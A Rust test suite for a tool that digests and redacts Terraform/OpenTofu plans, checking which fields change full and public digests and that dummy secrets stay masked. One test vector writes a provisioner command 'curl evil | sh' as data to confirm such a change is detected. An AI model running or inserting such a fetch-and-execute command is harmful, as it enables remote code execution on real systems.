//! What changes a digest, what does not, and what nobody can learn from the public one.

use countersign_plan::Plan;
use countersign_plan::digest::{Absent, Behind, CanonicalForm, Digests, Meta, behind, canonical, digests};
use countersign_plan::redact::redact;
use serde_json::{Value, json};
use sha2::Digest as _;

fn vector(name: &str) -> Value {
    let path = format!("{}/tests/vectors/{name}", env!("CARGO_MANIFEST_DIR"));
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn read(json: &Value) -> Plan {
    Plan::read(json.to_string().into_bytes()).unwrap()
}

fn meta(json: &Value) -> Meta {
    Meta::parse(&json.to_string()).unwrap()
}

fn of(plan: &Value) -> Digests {
    digests(&read(plan), Some(&meta(&vector("full.meta.json"))))
}

/// Changes one place of the plan, which must be there.
fn with(path: &str, value: Value) -> Value {
    let mut plan = vector("full.plan.json");
    let place = plan.pointer_mut(path).unwrap_or_else(|| panic!("{path}"));
    assert_ne!(*place, value, "{path} is changed");
    *place = value;
    plan
}

fn counts(path: &str, value: Value) {
    let (before, after) = (of(&vector("full.plan.json")), of(&with(path, value)));
    assert_ne!(before.full, after.full, "{path} counts in the full digest");
    assert_ne!(before.public, after.public, "{path} counts in the public digest");
}

fn hidden(path: &str, value: Value) {
    let (before, after) = (of(&vector("full.plan.json")), of(&with(path, value)));
    assert_ne!(before.full, after.full, "{path} counts in the full digest");
    assert_eq!(before.public, after.public, "{path} is not in the public digest");
    assert_eq!(before.masked, after.masked, "{path}");
}

fn ignored(path: &str, value: Value) {
    let (before, after) = (of(&vector("full.plan.json")), of(&with(path, value)));
    assert_eq!((before.full, before.public), (after.full, after.public), "{path} counts in no digest");
    assert_ne!(before.file, after.file);
}

#[test]
fn what_decides_an_apply_counts_in_both_digests() {
    for (path, value) in [
        (
            "/configuration/root_module/resources/0/provisioners/0/expressions/command/constant_value",
            json!("curl evil | sh"),
        ),
        ("/configuration/root_module/resources/0/provisioners/0/type", json!("remote-exec")),
        ("/configuration/provider_config/aws/expressions/region/constant_value", json!("us-east-1")),
        (
            "/configuration/provider_config/aws/expressions/assume_role/0/role_arn/constant_value",
            json!("arn:aws:iam::2:role/x"),
        ),
        ("/configuration/root_module/module_calls/db/source", json!("git::https://example.com/db?ref=v2")),
        ("/configuration/root_module/module_calls/db/expressions/size/constant_value", json!(20)),
        ("/configuration/root_module/variables/env/default", json!("prod")),
        ("/terraform_version", json!("1.11.5")),
        ("/resource_changes/0/address", json!("aws_instance.other")),
        ("/resource_changes/0/provider_name", json!("registry.opentofu.org/hashicorp/aws")),
        ("/resource_changes/0/change/actions", json!(["create", "delete"])),
        ("/resource_changes/0/action_reason", json!("replace_by_request")),
        ("/resource_changes/0/change/replace_paths", json!([["ami"], ["tags"]])),
        ("/resource_changes/0/change/after/ami", json!("ami-3")),
        ("/resource_changes/0/change/after/type", json!("m5.large")),
        ("/resource_changes/0/change/before/id", json!("i-2")),
        ("/resource_changes/0/change/after_unknown/arn", json!(false)),
        ("/resource_changes/1/change/before/id", json!("db-2")),
        ("/resource_changes/1/change/after/size", json!(11)),
        ("/resource_changes/1/change/after_sensitive/size", json!(true)),
        ("/resource_changes/2/deposed", json!("0000000b")),
        ("/resource_changes/2/change/before/id", json!("vol-2")),
        ("/resource_changes/3/previous_address", json!("aws_eip.older")),
        ("/resource_changes/4/change/importing/id", json!("other")),
        ("/output_changes/url/after", json!("https://b.example")),
        ("/checks/0/status", json!("fail")),
        ("/complete", json!(false)),
        ("/errored", json!(true)),
        ("/action_invocations/0/config_values/function_name", json!("g")),
        ("/action_invocations/0/lifecycle_action_trigger/action_trigger_event", json!("BeforeCreate")),
        ("/deferred_changes/0/reason", json!("unknown")),
        ("/deferred_changes/0/resource_change/address", json!("aws_instance.later[\"*\"]")),
    ] {
        counts(path, value);
    }
}

#[test]
fn what_the_meta_file_states_counts_and_where_it_comes_from_does_not() {
    let plan = read(&vector("full.plan.json"));
    let stated = vector("full.meta.json");
    let first = digests(&plan, Some(&meta(&stated)));
    assert!(first.approvable());
    for (path, value, decides) in [
        ("/repository_id", json!(43), true),
        ("/project", json!("other"), true),
        ("/dir", json!("infra/other"), true),
        ("/workspace", json!("prod"), true),
        ("/inputs/var_files", json!(["b.tfvars"]), true),
        ("/inputs/backend_files", json!(["b.hcl"]), true),
        ("/inputs/environment", json!(["TF_VAR_b"]), true),
        ("/tool", json!("opentofu"), true),
        ("/mode/kind", json!("destroy"), true),
        ("/mode/targets", json!(["aws_instance.web"]), true),
        ("/mode/replace", json!(["aws_instance.web"]), true),
        ("/backend/type", json!("oss"), true),
        ("/backend/settings/bucket", json!("other"), true),
        ("/backend/settings/key", json!("other"), true),
        ("/backend/all/encrypt", json!(false), true),
        ("/backend/all/assume_role/role_arn", json!("arn:aws:iam::412033857711:role/other"), true),
        ("/base_name", json!("release/1.2"), true),
        ("/account", json!("883011274496"), true),
        ("/account", Value::Null, true),
        ("/plan_role", json!("arn:aws:iam::412033857711:role/plan"), true),
        ("/apply_role", json!("arn:aws:iam::412033857711:role/other"), true),
        ("/apply_role", Value::Null, true),
        ("/providers/registry.terraform.io~1hashicorp~1aws", json!("5.1.1"), true),
        ("/head", json!("1".repeat(40)), false),
        ("/base", json!("1".repeat(40)), false),
        ("/merge", json!("1".repeat(40)), false),
        ("/tree", json!("1".repeat(40)), false),
        ("/run/id", json!(8), false),
        ("/run/attempt", json!(3), false),
        ("/working_directory", json!("/elsewhere"), false),
    ] {
        let mut changed = stated.clone();
        *changed.pointer_mut(path).unwrap_or_else(|| panic!("{path}")) = value;
        if path == "/backend/type" {
            changed.pointer_mut("/backend/settings").unwrap().as_object_mut().unwrap().remove("workspace_key_prefix");
        }
        let other = digests(&plan, Some(&meta(&changed)));
        assert_eq!(first.full != other.full, decides, "{path} in the full digest");
        assert_eq!(first.public != other.public, decides, "{path} in the public digest");
    }
}

#[test]
fn what_only_repeats_or_tells_when_counts_in_no_digest() {
    ignored("/timestamp", json!("2030-01-01T00:00:00Z"));
    ignored("/prior_state", json!({"values": 1}));
    ignored("/planned_values", json!({"root_module": {}}));
    ignored("/resource_drift/0/change/after/type", json!("t3.large"));
    ignored("/relevant_attributes", json!([]));
    // An update is told by what it changes, a pure no-op not at all, a delete by its id.
    ignored("/resource_changes/5/change/after/name", json!("elsewhere"));
    ignored("/resource_changes/2/change/before/size", json!(9));
}

/// A refresh-only plan: what drifted, and no resource change.
fn refreshing(path: &str, value: Value) -> Value {
    let mut plan = with(path, value);
    plan.as_object_mut().unwrap().remove("resource_changes");
    plan
}

#[test]
fn what_a_refresh_only_plan_records_counts_in_both_digests() {
    let as_it_is = ("/timestamp", json!("2030-01-01T00:00:00Z"));
    let first = of(&refreshing(as_it_is.0, as_it_is.1));
    for (path, value) in [
        ("/resource_drift/0/address", json!("aws_instance.other")),
        ("/resource_drift/0/change/actions", json!(["delete"])),
        ("/resource_drift/0/change/after/type", json!("t3.large")),
        ("/resource_drift/0/change/before/type", json!("t3.large")),
    ] {
        let other = of(&refreshing(path, value));
        assert_ne!(first.full, other.full, "{path} counts in the full digest");
        assert_ne!(first.public, other.public, "{path} counts in the public digest");
    }
    let other = of(&refreshing("/resource_drift/0/change/after/user_data", json!("other")));
    assert_ne!(first.full, other.full);
    assert_eq!(first.public, other.public, "what is masked is not in the public digest");
}

#[test]
fn what_is_not_known_of_recorded_drift_counts_and_is_named() {
    let mut plan = refreshing("/timestamp", json!("2030-01-01T00:00:00Z"));
    let first = of(&plan);
    plan["resource_drift"][0]["change"]["new_member"] = json!("hunter2");
    let other = of(&plan);
    assert_eq!(other.unread, ["resource_drift[].change.new_member"]);
    assert_ne!(first.full, other.full);
    assert!(!other.approvable());
    assert!(!canonical(&read(&plan), None, CanonicalForm::Public).contains("hunter2"));
}

#[test]
fn a_redacted_refresh_only_plan_has_the_same_public_digest() {
    let plan = refreshing("/timestamp", json!("2030-01-01T00:00:00Z"));
    let redacted: Value = serde_json::from_str(&redact(&read(&plan))).unwrap();
    assert_eq!(of(&plan).public, of(&redacted).public);
}

#[test]
fn no_masked_value_changes_the_public_digest() {
    for value in [json!("x"), json!("a much longer value, with \"quotes\""), json!(7), json!({"a": [1]}), json!(["b"])]
    {
        for path in [
            // Marked in the plan.
            "/resource_changes/0/change/before/user_data",
            "/resource_changes/0/change/after/user_data",
            "/resource_changes/1/change/before/login",
            "/resource_changes/1/change/after/login",
            "/output_changes/hidden/before",
            "/output_changes/hidden/after",
            "/action_invocations/0/config_values/payload",
            // The same values in the configuration.
            "/configuration/root_module/resources/0/expressions/user_data/constant_value",
            "/configuration/root_module/variables/marked/default",
            "/configuration/root_module/variables/once/default",
            "/configuration/root_module/variables/handed_on/default",
            "/configuration/root_module/variables/to_attribute/default",
            "/configuration/root_module/module_calls/db/expressions/marked/constant_value",
            "/configuration/root_module/module_calls/db/module/variables/marked/default",
            "/configuration/root_module/outputs/hidden/expression/constant_value",
            // Values of variables, whatever they are.
            "/variables/env/value",
            "/variables/marked/value",
        ] {
            hidden(path, value.clone());
        }
    }
    for value in [json!("x"), json!("a much longer value"), json!(7)] {
        for path in [
            // Under the name of a password or a key.
            "/resource_changes/1/change/after/db_password",
            "/resource_changes/1/change/after/environment/0/value",
            "/configuration/provider_config/aws/expressions/secret_key/constant_value",
            "/configuration/root_module/resources/0/expressions/password_wo/constant_value",
            "/output_changes/api_key/after",
        ] {
            hidden(path, value.clone());
        }
    }
    // Under another name of a credential, under which numbers are none.
    let token =
        "/configuration/root_module/resources/0/provisioners/0/expressions/environment/constant_value/API_TOKEN";
    hidden(token, json!("x"));
    counts(token, json!(7));
}

#[test]
fn json_inside_strings_is_masked_by_name() {
    let inside = |password: &str, host: &str| json!(json!({"password": password, "host": host}).to_string());
    hidden("/resource_changes/1/change/after/settings", inside("other", "h"));
    counts("/resource_changes/1/change/after/settings", inside("first", "elsewhere"));
}

#[test]
fn whether_a_masked_value_changes_is_not_in_the_public_digest() {
    let plan = vector("full.plan.json");
    let before = plan.pointer("/resource_changes/1/change/before/login").unwrap().clone();
    hidden("/resource_changes/1/change/after/login", before);
}

#[test]
fn the_text_of_the_public_form_holds_no_masked_value_and_that_of_the_full_form_does() {
    let (plan, meta) = (read(&vector("full.plan.json")), meta(&vector("full.meta.json")));
    let (full, public) =
        (canonical(&plan, Some(&meta), CanonicalForm::Full), canonical(&plan, Some(&meta), CanonicalForm::Public));
    assert!(full.matches("hunter").count() > 10, "{full}");
    assert!(!public.contains("hunter"), "{public}");
    assert_eq!(
        public.matches("masked").count(),
        of(&vector("full.plan.json")).masked,
        "the vector uses the word nowhere else"
    );
}

#[test]
fn keys_blanks_and_the_order_of_changes_do_not_count() {
    let plan = vector("full.plan.json");
    let compact = of(&plan);
    let pretty = Plan::read(serde_json::to_string_pretty(&plan).unwrap().into_bytes()).unwrap();
    let meta = meta(&vector("full.meta.json"));
    assert_eq!(digests(&pretty, Some(&meta)).full, compact.full);
    let members: Vec<String> =
        plan.as_object().unwrap().iter().rev().map(|(key, value)| format!("{}: {value}", json!(key))).collect();
    let reversed = format!("{{{}}}", members.join(",\n"));
    let reversed = digests(&Plan::read(reversed.into_bytes()).unwrap(), Some(&meta));
    assert_eq!((reversed.full, reversed.public), (compact.full, compact.public));
    let mut turned = plan;
    turned["resource_changes"].as_array_mut().unwrap().reverse();
    assert_eq!(of(&turned).full, compact.full);
}

#[test]
fn numbers_count_as_they_are_written() {
    let text = vector("full.plan.json").to_string();
    assert!(text.contains("\"ratio\":0.1,"), "{text}");
    let other = Plan::read(text.replace("\"ratio\":0.1,", "\"ratio\":0.10,").into_bytes()).unwrap();
    assert_ne!(digests(&other, None).public, digests(&Plan::read(text.into_bytes()).unwrap(), None).public);
}

#[test]
fn without_a_meta_file_the_digest_says_what_is_absent_and_cannot_be_approved() {
    let plan = read(&vector("full.plan.json"));
    let alone = digests(&plan, None);
    assert!(!alone.approvable());
    assert_eq!(
        alone.absent,
        [
            Absent::Repository,
            Absent::Project,
            Absent::Dir,
            Absent::Workspace,
            Absent::Inputs,
            Absent::Tool,
            Absent::Mode,
            Absent::Backend,
            Absent::Providers,
            Absent::BaseName,
            Absent::Account,
            Absent::PlanRole,
            Absent::ApplyRole,
        ]
    );
    assert!(canonical(&plan, None, CanonicalForm::Public).contains("\"workspace\":absent}"));
    // A workspace that is called so is another thing.
    let mut stated = vector("full.meta.json");
    stated["workspace"] = json!("absent");
    let named = canonical(&plan, Some(&meta(&stated)), CanonicalForm::Public);
    assert!(named.contains("\"workspace\":\"absent\"}"));
    for field in [
        "repository_id",
        "project",
        "dir",
        "workspace",
        "inputs",
        "tool",
        "mode",
        "backend",
        "providers",
        "base_name",
        "account",
        "plan_role",
        "apply_role",
    ] {
        let mut stated = vector("full.meta.json");
        stated.as_object_mut().unwrap().remove(field).unwrap();
        let digests = digests(&plan, Some(&meta(&stated)));
        assert_eq!(digests.absent.len(), 1, "{field}");
        assert!(!digests.approvable(), "{field}");
    }
}

#[test]
fn two_different_versions_of_the_tool_are_no_version() {
    let mut stated = vector("full.meta.json");
    stated["version"] = json!("1.0.0");
    let digests = digests(&read(&vector("full.plan.json")), Some(&meta(&stated)));
    assert_eq!(digests.absent, [Absent::Version]);
    assert!(!digests.approvable());
}

#[test]
fn a_part_that_is_not_known_counts_is_named_and_cannot_be_approved() {
    let mut plan = vector("full.plan.json");
    plan["brand_new_key"] = json!({"what": "hunter0"});
    plan["resource_changes"][0]["change"]["also_new"] = json!("hunter1");
    let (known, new) = (of(&vector("full.plan.json")), of(&plan));
    assert_ne!(known.full, new.full);
    assert_ne!(known.public, new.public);
    assert_eq!(new.unread, ["brand_new_key", "resource_changes[].change.also_new"]);
    assert!(known.approvable() && !new.approvable());
    let redacted = redact(&read(&plan));
    assert!(!redacted.contains("hunter"), "nobody knows what may be shown of it: {redacted}");
    assert_eq!(
        digests(&Plan::read(redacted.into_bytes()).unwrap(), Some(&meta(&vector("full.meta.json")))).public,
        new.public
    );
}

#[test]
fn redaction_leaves_no_masked_value_and_keeps_the_public_digest() {
    let plan = read(&vector("full.plan.json"));
    let meta = meta(&vector("full.meta.json"));
    let text = redact(&plan);
    assert!(!text.contains("hunter"), "{text}");
    let value: Value = serde_json::from_str(&text).unwrap();
    assert!(value.get("prior_state").is_none() && value.get("planned_values").is_none());
    assert_eq!(value["variables"]["env"], json!({}));
    assert_eq!(value["resource_changes"][1]["change"]["after"]["db_password"], json!("(sensitive value)"));
    assert_eq!(value["resource_changes"][1]["change"]["after"]["size"], json!(10));
    let again = Plan::read(text.clone().into_bytes()).unwrap();
    assert_eq!(digests(&again, Some(&meta)).public, digests(&plan, Some(&meta)).public);
    assert_ne!(digests(&again, Some(&meta)).full, digests(&plan, Some(&meta)).full);
    assert_eq!(redact(&again), text, "redaction of a redacted plan changes nothing");
}

#[test]
fn a_plan_without_changes_stays_a_plan_when_redacted() {
    let plan = read(&json!({"format_version": "1.2", "planned_values": {"root_module": {}}, "provider_schemas": {}}));
    let again = Plan::read(redact(&plan).into_bytes()).unwrap();
    assert_eq!(digests(&again, None).public, digests(&plan, None).public);
}

#[test]
fn a_value_that_looks_like_the_marker_is_told_from_a_masked_one() {
    // The attribute is not marked: its text counts like any other.
    counts("/resource_changes/1/change/after/note", json!("(sensitive value)"));
    counts("/resource_changes/1/change/after/note", json!("masked"));
}

#[test]
fn full_and_public_digests_never_meet() {
    let plan = read(&json!({"format_version": "1.2", "resource_changes": []}));
    let digests = digests(&plan, None);
    assert_eq!(digests.masked, 0);
    assert_ne!(digests.full.0, digests.public.0);
}

/// An update of one resource.
fn updating(before: &Value, after: &Value) -> Value {
    let mut plan = vector("full.plan.json");
    plan["resource_changes"] = json!([{
        "address": "azurerm_app_configuration_key.it", "mode": "managed", "type": "azurerm_app_configuration_key",
        "name": "it", "provider_name": "registry.terraform.io/hashicorp/azurerm",
        "change": {"actions": ["update"], "before": before, "after": after, "after_unknown": {},
            "before_sensitive": {}, "after_sensitive": {}},
    }]);
    plan
}

#[test]
fn the_value_beside_the_name_of_a_credential_is_not_in_the_public_digest_where_the_pair_is_no_element() {
    let pair = |value: &str| json!({"key": "db_password", "value": value});
    let nested = |value: &str| json!({"setting": {"name": "API_TOKEN", "value": value}});
    for (old, new, other) in
        [(pair("topaz2"), pair("topaz3"), pair("topaz4")), (nested("topaz2"), nested("topaz3"), nested("topaz4"))]
    {
        let (one, another) = (of(&updating(&old, &new)), of(&updating(&old, &other)));
        assert_eq!(one.public, another.public, "a masked value is not in it");
        assert_ne!(one.full, another.full);
        let plan = read(&updating(&old, &new));
        let form = canonical(&plan, Some(&meta(&vector("full.meta.json"))), CanonicalForm::Public);
        assert!(!form.contains("topaz"), "{form}");
        let redacted = Plan::read(redact(&plan).into_bytes()).unwrap();
        let again = digests(&redacted, Some(&meta(&vector("full.meta.json"))));
        assert_eq!(again.public, one.public, "masking it first changes nothing");
    }
    // Only the side that is such a pair is masked.
    let renamed = |value: &str| updating(&pair("topaz2"), &json!({"key": "host", "value": value}));
    assert_ne!(of(&renamed("a")).public, of(&renamed("b")).public, "what is not masked counts");
}

#[test]
fn the_default_of_a_variable_that_goes_to_a_providers_credential_is_masked() {
    let with = |default: &str| {
        let mut plan = vector("full.plan.json");
        plan["configuration"] = json!({
            "provider_config": {
                "postgresql": {"name": "postgresql", "expressions": {"password": {"references": ["var.pg"]}}},
                "module.db:mysql": {"name": "mysql", "module_address": "module.db",
                    "expressions": {"password": {"references": ["var.my"]}}},
            },
            "root_module": {
                "variables": {"pg": {"default": default}, "run": {"default": default}},
                "resources": [{"address": "t.n", "mode": "managed", "type": "t", "name": "n", "expressions": {},
                    "provisioners": [{"type": "remote-exec", "expressions": {"api_token": {"references": ["var.run"]}}}]}],
                "module_calls": {"db": {"expressions": {"my": {"constant_value": default}},
                    "module": {"variables": {"my": {"default": default}}}}},
            },
        });
        plan
    };
    let plan = read(&with("hunter2"));
    assert!(!redact(&plan).contains("hunter2"), "{}", redact(&plan));
    assert_eq!(of(&with("hunter2")).public, of(&with("hunter3")).public);
}

#[test]
fn the_id_of_an_import_that_is_masked_in_the_object_is_in_no_public_form() {
    let with = |secret: &str| {
        let side = |length: u8| json!({"result": secret, "length": length});
        let mut plan = updating(&side(7), &side(8));
        let change = &mut plan["resource_changes"][0]["change"];
        change["importing"] = json!({"id": secret});
        change["before_sensitive"] = json!({"result": true});
        change["after_sensitive"] = json!({"result": true});
        plan
    };
    assert_eq!(of(&with("topaz1")).public, of(&with("topaz2")).public);
    assert_ne!(of(&with("topaz1")).full, of(&with("topaz2")).full);
    let redacted = redact(&read(&with("topaz1")));
    assert!(!redacted.contains("topaz"), "{redacted}");
    let again = digests(&Plan::read(redacted.into_bytes()).unwrap(), Some(&meta(&vector("full.meta.json"))));
    assert_eq!(again.public, of(&with("topaz1")).public, "masking it first changes nothing");
}

#[test]
fn the_file_digest_is_that_of_the_bytes_as_they_came() {
    let text = vector("full.plan.json").to_string();
    let utf16 = text.encode_utf16().flat_map(u16::to_le_bytes);
    for (as_it_came, bytes) in [
        ("as written", text.clone().into_bytes()),
        ("with a byte order mark", format!("\u{feff}{text}").into_bytes()),
        ("in UTF-16", [0xff, 0xfe].into_iter().chain(utf16).collect()),
        ("within the lines of a wrapper", format!("[command]terraform show -json\n{text}\n").into_bytes()),
    ] {
        let expected: [u8; 32] = sha2::Sha256::digest(&bytes).into();
        let beside = Plan::read_and_digest(bytes.clone()).unwrap().file_digest();
        let when_asked_for = Plan::read(bytes).unwrap().file_digest();
        assert_eq!((beside, when_asked_for), (expected, expected), "{as_it_came}");
    }
}

#[test]
fn a_meta_file_of_the_first_schema_says_what_it_cannot_state() {
    let plan = read(&vector("full.plan.json"));
    let stated = meta(&vector("full-schema-1.meta.json"));
    let of_ci = digests(&plan, Some(&stated));
    let beside = [Absent::BackendSettings, Absent::BaseName, Absent::Account, Absent::PlanRole, Absent::ApplyRole];
    assert_eq!(of_ci.absent, beside);
    let role = || Some("arn:aws:iam::412033857711:role/apply-network".to_owned());
    let taken_in = digests(&plan, Some(&stated.expecting("main", Some("412033857711".to_owned()), None, role())));
    assert_eq!(taken_in.absent, [Absent::BackendSettings], "the app adds what the rules name");
    assert!(!taken_in.approvable());
    // What a meta file claims of the rules is not kept.
    let claimed = meta(&vector("full.meta.json")).expecting("other", None, None, None);
    assert_eq!(claimed.base_name.as_deref(), Some("other"));
    let form = canonical(&plan, Some(&claimed), CanonicalForm::Public);
    assert!(form.contains("\"account\":null,") && form.contains("\"base_name\":\"other\""), "{form}");
}

/// A plan that destroys or forgets one object.
fn without(action: &str, before: &Value) -> Value {
    let mut plan = vector("full.plan.json");
    plan["resource_changes"] = json!([{
        "address": "aws_db_instance.main", "mode": "managed", "type": "aws_db_instance", "name": "main",
        "provider_name": "registry.terraform.io/hashicorp/aws",
        "change": {"actions": [action], "before": before, "after": null, "after_unknown": {},
            "before_sensitive": {"password": true}, "after_sensitive": false},
    }]);
    plan
}

#[test]
fn what_decides_how_an_object_goes_counts_and_what_the_provider_computes_does_not() {
    let database = json!({"id": "db-1", "skip_final_snapshot": false, "final_snapshot_identifier": "last",
        "deletion_protection": true, "delete_automated_backups": true, "password": "hunter2",
        "latest_restorable_time": "2026-11-30T12:00:00Z", "status": "available",
        "root_block_device": [{"delete_on_termination": false, "volume_id": "vol-1"}], "force_destroy": null});
    for action in ["delete", "forget"] {
        let first = of(&without(action, &database));
        let with = |path: &str, value: Value| {
            let mut other = database.clone();
            *other.pointer_mut(path).unwrap() = value;
            of(&without(action, &other))
        };
        for (path, value) in [
            ("/id", json!("db-2")),
            ("/skip_final_snapshot", json!(true)),
            ("/final_snapshot_identifier", json!("other")),
            ("/deletion_protection", json!(false)),
            ("/delete_automated_backups", json!(false)),
            ("/force_destroy", json!(true)),
            ("/root_block_device/0/delete_on_termination", json!(true)),
        ] {
            let other = with(path, value);
            assert_ne!(first.public, other.public, "{action} {path}");
            assert_ne!(first.full, other.full, "{action} {path}");
        }
        for (path, value) in [
            ("/latest_restorable_time", json!("2026-11-30T12:05:00Z")),
            ("/status", json!("backing-up")),
            ("/root_block_device/0/volume_id", json!("vol-2")),
        ] {
            let other = with(path, value);
            assert_eq!((first.public, first.full), (other.public, other.full), "{action} {path}");
        }
    }
}

#[test]
fn a_value_that_cannot_be_a_secret_counts_whatever_its_name() {
    for (name, old, new) in [
        ("authorization", json!("AWS_IAM"), json!("NONE")),
        ("authorization", json!("NONE"), json!("COGNITO_USER_POOLS")),
        (
            "credentials",
            json!("arn:aws:iam::111111111111:role/reader"),
            json!("arn:aws:iam::111111111111:role/Administrator"),
        ),
        (
            "secret",
            json!([{"secret_name": "staging-tls", "optional": false}]),
            json!([{"secret_name": "prod-tls", "optional": false}]),
        ),
        ("secret", json!([{"items": [{"key": "a", "path": "p"}]}]), json!([{"items": [{"key": "b", "path": "p"}]}])),
        ("token", json!(3600), json!(7200)),
        ("auth", json!(true), json!(false)),
        ("password", json!("${data.a.b}"), json!("${data.a.c}")),
        ("client_secret", json!("true"), json!("false")),
    ] {
        let plan = |value: &Value| updating(&json!({"id": "m", name: old}), &json!({"id": "m", name: value}));
        let (one, other) = (of(&plan(&old)), of(&plan(&new)));
        assert_ne!(one.public, other.public, "{name}: {old} -> {new}");
        assert_eq!(one.unbound, other.unbound, "{name}");
    }
    // A list of secrets of a container names where they are.
    let secrets = |name: &str| {
        let list = json!([{"name": "app", "secrets": [{"name": "DB_PASSWORD",
            "valueFrom": format!("arn:aws:secretsmanager:eu-west-1:111111111111:secret:{name}")}]}]);
        updating(&json!({"id": "t"}), &json!({"id": "t", "container_definitions": list.to_string()}))
    };
    assert_ne!(of(&secrets("staging-db")).public, of(&secrets("PROD-db")).public);
}

#[test]
fn what_is_masked_by_a_guess_is_named_by_its_path_and_by_nothing_of_its_value() {
    let plan = |password: &str, url: &str| {
        updating(
            &json!({"id": "m", "db": {"password": "p1"}}),
            &json!({"id": "m", "db": {"password": password}, "url": url}),
        )
    };
    let base = of(&vector("full.plan.json")).unbound.len();
    assert!(base > 0);
    let found = of(&plan("p2", "postgres://u:h7x@db/app"));
    let paths: Vec<String> = found.unbound.iter().map(ToString::to_string).collect();
    let address = "azurerm_app_configuration_key.it";
    for path in [
        format!(r#"["resource_changes","{address}","","db","password"]"#),
        format!(r#"["resource_changes","{address}","","url"]"#),
        r#"["meta","backend","settings","secret_key"]"#.to_owned(),
    ] {
        assert!(paths.contains(&path), "{path}: {paths:?}");
    }
    assert!(paths.iter().all(|path| !path.contains("h7x")));
    let other = of(&plan("p3", "postgres://u:other@db/app"));
    assert_eq!((found.public, &found.unbound), (other.public, &other.unbound));
    assert_ne!(found.full, other.full);
    assert_ne!(found.unbound_paths(), of(&vector("full.plan.json")).unbound_paths());
    // The rest of a text counts.
    assert_ne!(found.public, of(&plan("p2", "postgres://u:h7x@elsewhere/app")).public);
    // A plan that CI masked names the same places.
    let redacted = Plan::read(redact(&read(&plan("p2", "postgres://u:h7x@db/app"))).into_bytes()).unwrap();
    let again = digests(&redacted, Some(&meta(&vector("full.meta.json"))));
    assert_eq!((again.public, again.unbound), (found.public, found.unbound));
}

#[test]
fn the_values_behind_a_place_come_for_that_place_alone() {
    let plan = read(&updating(
        &json!({"id": "m", "a": [{"token": "old1"}], "s": "{\"password\":\"old2\"}"}),
        &json!({"id": "m", "a": [{"token": "new1"}], "s": "{\"password\":\"new2\"}"}),
    ));
    let meta = meta(&vector("full.meta.json"));
    let found: Vec<_> =
        digests(&plan, Some(&meta)).unbound.into_iter().map(|place| behind(&plan, Some(&meta), &place)).collect();
    let pair = |before: &str, after: &str| Behind { before: Some(before.to_owned()), after: Some(after.to_owned()) };
    assert!(found.contains(&pair("\"old1\"", "\"new1\"")), "{found:?}");
    assert!(found.contains(&pair("\"old2\"", "\"new2\"")), "{found:?}");
}

#[test]
fn a_secret_that_is_marked_is_masked_wherever_it_reappears_and_the_rest_counts() {
    let plan = |secret: &str, host: &str| {
        let mut plan = vector("full.plan.json");
        let change = |after: Value, sensitive: Value| {
            json!({"actions": ["create"], "before": null, "after": after,
            "after_unknown": {}, "before_sensitive": false, "after_sensitive": sensitive})
        };
        let entry = |name: &str, change: Value| {
            json!({"address": format!("t.{name}"), "mode": "managed", "type": "t",
            "name": name, "provider_name": "p", "change": change})
        };
        plan["resource_changes"] = json!([
            entry("a", change(json!({"result": secret, "cidr": "0.0.0.0/0"}), json!({"result": true, "cidr": true}))),
            entry(
                "b",
                change(
                    json!({"dsn": format!("app:{secret} on {host}"), "whole": secret, "cidr": "0.0.0.0/0",
                "doc": json!({"deep": {"x": secret}}).to_string()}),
                    json!({})
                )
            ),
        ]);
        plan["configuration"] = json!({"root_module": {"resources": [{"address": "t.b", "mode": "managed", "type": "t",
            "name": "b", "expressions": {"whole": {"constant_value": secret}}}]}});
        plan
    };
    let one = read(&plan("OLDPW-7f3a91", "db1"));
    let meta = meta(&vector("full.meta.json"));
    let form = canonical(&one, Some(&meta), CanonicalForm::Public);
    assert!(!form.contains("OLDPW") && form.contains("app:(sensitive value) on db1"), "{form}");
    assert!(form.contains(r#""cidr":"0.0.0.0/0""#), "a range that is marked elsewhere hides no rule: {form}");
    assert!(!redact(&one).contains("OLDPW"));
    let found = digests(&one, Some(&meta));
    assert_eq!(found.public, of(&plan("NEWPW-91c2d0", "db1")).public);
    assert_ne!(found.public, of(&plan("OLDPW-7f3a91", "db2")).public);
    let again = digests(&Plan::read(redact(&one).into_bytes()).unwrap(), Some(&meta));
    assert_eq!((again.public, again.unbound), (found.public, found.unbound));
}

#[test]
fn variables_that_decide_what_a_provider_or_provisioner_does_count() {
    let plan = |region: &str, secret: &str, other: &str| {
        let mut plan = vector("full.plan.json");
        plan["variables"] = json!({"region": {"value": region}, "pw": {"value": secret}, "other": {"value": other}});
        plan["configuration"] = json!({
            "provider_config": {"module.a:aws": {"name": "aws", "module_address": "module.a", "expressions": {
                "region": {"references": ["var.r"]}, "password": {"references": ["var.p"]}}}},
            "root_module": {
                "variables": {"region": {}, "pw": {"sensitive": true}, "other": {}},
                "module_calls": {"a": {"expressions": {"r": {"references": ["var.region"]}, "p": {"references": ["var.pw"]}},
                    "module": {"variables": {"r": {}, "p": {}}}}},
            },
        });
        plan
    };
    let first = of(&plan("eu-west-1", "hunter-12345", "x"));
    assert_ne!(first.public, of(&plan("us-east-1", "hunter-12345", "x")).public);
    assert_eq!(first.public, of(&plan("eu-west-1", "hunter-67890", "x")).public);
    assert_eq!(
        first.public,
        of(&plan("eu-west-1", "hunter-12345", "y")).public,
        "what it leads to counts where it stands"
    );
    let text = redact(&read(&plan("eu-west-1", "hunter-12345", "x")));
    let redacted: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(
        redacted["variables"],
        json!({"region": {"value": "eu-west-1"}, "pw": {"value": "(sensitive value)"}, "other": {}})
    );
    assert_eq!(of(&redacted).public, first.public);
}
